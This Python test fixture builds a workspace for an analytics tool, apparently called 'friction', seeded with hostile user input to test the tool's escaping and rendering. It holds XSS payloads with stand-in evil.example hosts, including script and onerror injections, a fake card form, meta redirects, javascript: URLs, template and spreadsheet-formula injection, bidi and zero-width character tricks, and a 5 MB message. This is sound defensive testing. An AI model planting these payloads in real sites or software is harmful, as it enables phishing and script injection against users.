"""A workspace in which everything that others may name or write is hostile: messages, themes, stages, files, people."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import TYPE_CHECKING

from friction.contracts import build_table
from friction.store import Decision, Service
from tests.app.small_run import STAGES, build_tables, write_run

if TYPE_CHECKING:
    from pathlib import Path

    import pandas as pd

MARKUP = (
    "<script>window.__pwned=1;fetch('https://evil.example/s')</script>",
    "<img src=https://evil.example/i.png onerror='window.__pwned=1'>",
    "<style>@import url(https://evil.example/c.css);*{position:fixed;inset:0}</style>",
    "<div style='position:fixed;inset:0;z-index:9999999;background:url(https://evil.example/b.png)'>Sign in</div>",
    "<form action=https://evil.example/f><input name=card autofocus><button>Pay</button></form>",
    "<svg onload='window.__pwned=1'><image href=https://evil.example/v.png /><use href=#x /></svg>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'></iframe><object data=https://evil.example/o></object>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/m'><base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/l.css><video autoplay src=https://evil.example/a.mp4></video>",
    "<a href='javascript:window.__pwned=1'>x</a><details open ontoggle='window.__pwned=1'>y</details>",
    "</mark></div><h1>Overview</h1><script>alert(1)</script>",
    "![b](https://evil.example/p.png) [click](https://evil.example/q) # Heading",
    "[x](javascript:alert(1)) <https://evil.example/u> https://evil.example/v www.evil.example",
    ":material/home: :red[alarm] :blue-badge[x] $$\\href{https://evil.example/t}{x}$$ `code` **bold** ~~off~~",
    "{{constructor.constructor('window.__pwned=1')()}} ${window.__pwned=1} <%= 1 %>",
    "=HYPERLINK('https://evil.example/h','x') | | --- | \\ \" ' & &lt;script&gt; &#60;img&#62;",
    "datum['x'] + event.view.fetch('https://evil.example/d') signal width [0] .a.b\\.c",
)
SIGNS = (
    "card \u202edesufer\u202c \u2066turned\u2069 \u202aand \u202bagain",
    "zero\u200bwidth\u200c\u200d\ufeff\u2060signs\u00ad in\u180e words",
    "\u0627\u0644\u0628\u0637\u0627\u0642\u0629 \u0645\u0631\u0641\u0648\u0636\u0629",
    "\u05d4\u05db\u05e8\u05d8\u05d9\u05e1 \u05e0\u05d3\u05d7\u05d4",
    "z" + "\u0336\u0315\u0300\u0301\u0488" * 60 + "a" + "\u030d\u033f" * 120 + "lgo",
    "W" * 90,
    "\u914d\u9001\u304c\u9045\u308c\u3066\u3044\u307e\u3059" * 6,
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 12 + "\U0001f3f4" * 9,
    "bell\x07 null\x00 escape\x1b[31m delete\x7f next\x85 line\u2028 break\u2029 end",
    "many\n" * 60,
)
MESSAGES = (*MARKUP, *SIGNS)
URLS = (
    "javascript:window.__pwned=1", "data:text/html,<script>parent.__pwned=1</script>", "https://evil.example/'\"><b>",
)  # fmt: skip
HUGE = 5 * 1024 * 1024
"""Letters of the longest message."""
_NAMES = {
    stage: f"{stage} {name}"
    for stage, name in zip(STAGES, (MARKUP[1][:40], SIGNS[0], SIGNS[4][:40], MARKUP[11][:40]), strict=True)
}
_OF_STAGES = ("stage", "from_stage", "to_stage", "common_stage")


def write_hostile_workspace(folder: Path) -> Path:
    """Write the workspace: settings, one run, and decisions of somebody with a hostile name."""
    folder.mkdir(parents=True)
    (folder / "friction.toml").write_text(_to_settings(), encoding="utf-8")
    tables = {name: _spoil(name, frame) for name, frame in build_tables().items()}
    write_run(folder, tables)
    when = datetime(2026, 5, 26, tzinfo=UTC)
    with Service(folder, MARKUP[0][:80], segments=lambda: tables["segments"], now=lambda: when) as people:
        people.decide(
            [
                Decision("name", {"name": MARKUP[1][:120]}, "th-form"),
                Decision("owner", {"owner": MARKUP[11][:120]}, "th-form"),
                Decision("note", {"text": MARKUP[4]}, "th-form"),
                Decision("tag", {"tag": SIGNS[0][:40]}, "th-form"),
                Decision("acted", {"what": MARKUP[3], "shipped_on": "2026-05-01"}, "th-card"),
                Decision("create", {"name": SIGNS[4][:120]}, "th-made"),
            ]
        )
    return folder


def _to_settings() -> str:
    said = {name: json.dumps(words) for name, words in {
        "project": MARKUP[1], "objective": MARKUP[11], "owner": MARKUP[0], "tickets": "tickets", "path": MARKUP[5],
    }.items()}  # fmt: skip
    stages = "".join(
        f"\n[[journey.stages]]\nname = {json.dumps(name)}\nevents = [{json.dumps(stage)}]\n"
        f"description = {json.dumps(MARKUP[13])}\n"
        for stage, name in _NAMES.items()
    )
    return f"""
[project]
name = {said["project"]}
timezone = "Europe/Berlin"

[objective]
name = {said["objective"]}
target = 0.25
by = "2026-12-31"
owner = {said["owner"]}

[[documents]]
name = "tickets"
path = {said["path"]}
source = "ticket"
columns = {{ text = {json.dumps(MARKUP[2])} }}

[[events]]
name = "clicks"
path = "clicks.csv"
columns = {{ happened_at = {json.dumps(MARKUP[9])}, name = "event" }}

[journey]
converts = ["done"]
drop_after_days = 14
{stages}"""


def _spoil(table: str, frame: pd.DataFrame) -> pd.DataFrame:
    """Return a table with hostile words wherever its words are not ours."""
    frame = frame.copy()
    for column in _OF_STAGES:
        if column in frame:
            frame[column] = frame[column].map(lambda stage: _NAMES.get(stage, stage), na_action="ignore")
    if "path" in frame:
        frame["path"] = [[_NAMES.get(stage, stage) for stage in path] for path in frame["path"]]
    change = {
        "documents": _spoil_documents, "segments": _spoil_segments, "cues": _spoil_cues, "themes": _spoil_themes,
        "topics": _spoil_topics, "imports": _spoil_files, "quarantine": _spoil_files, "proposals": _spoil_proposals,
        "events": _spoil_events,
    }.get(table)  # fmt: skip
    return build_table(table, frame if change is None else change(frame))


def _to_message(number: int) -> str:
    words = MESSAGES[number % len(MESSAGES)]
    return words + " " + ("long " * (HUGE // 5)) if number == 1 else words


def _spoil_documents(frame: pd.DataFrame) -> pd.DataFrame:
    frame["text"] = [_to_message(number) for number in range(len(frame))]
    frame["url"] = [URLS[number % len(URLS)] if number % 2 else None for number in range(len(frame))]
    return frame


def _spoil_segments(frame: pd.DataFrame) -> pd.DataFrame:
    frame["start"] = 0
    frame["text"] = [_to_message(number) for number in range(len(frame))]
    frame["end"] = frame["text"].str.len()
    frame["lemmas"] = [[MESSAGES[number % len(MESSAGES)][:30]] for number in range(len(frame))]
    return frame


def _spoil_cues(frame: pd.DataFrame) -> pd.DataFrame:
    frame["start"], frame["end"] = 1, 6
    return frame


def _spoil_themes(frame: pd.DataFrame) -> pd.DataFrame:
    n = len(frame)
    frame["name"] = [MESSAGES[(5 * number) % len(MESSAGES)][:120] for number in range(n)]
    frame["terms"] = [[MARKUP[number][:60], SIGNS[number]] for number in range(n)]
    for place, column in enumerate(("definition", "owner", "include", "exclude", "memo")):
        frame[column] = [MARKUP[(number + place) % len(MARKUP)] for number in range(n)]
    frame["tags"] = [[SIGNS[number % 4][:40]] for number in range(n)]
    return frame


def _spoil_topics(frame: pd.DataFrame) -> pd.DataFrame:
    frame["label"] = [MARKUP[number] for number in range(len(frame))]
    frame["terms"] = [[MARKUP[number][:60], SIGNS[number]] for number in range(len(frame))]
    return frame


def _spoil_files(frame: pd.DataFrame) -> pd.DataFrame:
    for column in ("source", "file", "column", "reason"):
        if column in frame:
            frame[column] = [f"{MARKUP[number % len(MARKUP)]}{number}" for number in range(len(frame))]
    return frame


def _spoil_proposals(frame: pd.DataFrame) -> pd.DataFrame:
    frame["why"] = [MARKUP[number % len(MARKUP)] for number in range(len(frame))]
    frame["common_terms"] = [[MARKUP[number % len(MARKUP)][:60]] for number in range(len(frame))]
    return frame


def _spoil_events(frame: pd.DataFrame) -> pd.DataFrame:
    frame["name"] = [MARKUP[number % len(MARKUP)] for number in range(len(frame))]
    frame["properties"] = json.dumps({MARKUP[0]: MARKUP[1]})
    return frame
